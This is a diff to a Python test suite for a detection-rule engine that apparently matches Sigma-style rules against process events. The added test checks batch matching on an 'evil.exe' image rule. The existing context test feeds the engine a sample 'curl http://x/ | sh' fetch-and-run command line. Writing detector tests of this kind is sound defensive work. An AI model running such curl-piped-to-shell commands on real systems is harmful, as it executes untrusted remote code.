@@ -237,3 +237,14 @@ def test_text_that_is_not_utf8_is_matched_by_every_kind_of_test(load_rules: Rule
     text = b"curl http://x/\xff | sh evil-keyword".decode("utf-8", "surrogateescape")
     assert fired(engine, {"CommandLine": text}) == ["Keyword", "Regex", "Contains"]
     assert engine.statistics()["errors"] == 0
+
+
+def test_match_batch_is_match_of_each_event_and_skips_an_odd_one(load_rules: RuleLoader) -> None:
+    engine, _ = load_rules(rule("sel:\n  Image|endswith: '\\\\evil.exe'\ncondition: sel"))
+    evil = make_event({"Image": "C:\\x\\evil.exe"})
+    calm = make_event({"Image": "C:\\x\\calm.exe"})
+    batch = [evil, calm, object(), evil]
+    alerts = engine.match_batch(batch)  # type: ignore[list-item]
+    assert [a.event for a in alerts] == [evil, evil]
+    assert engine.errors == 1 and engine.events == 4
+    assert [a.rule_name for a in alerts] == [a.rule_name for e in (evil, calm, evil) for a in engine.match(e)]
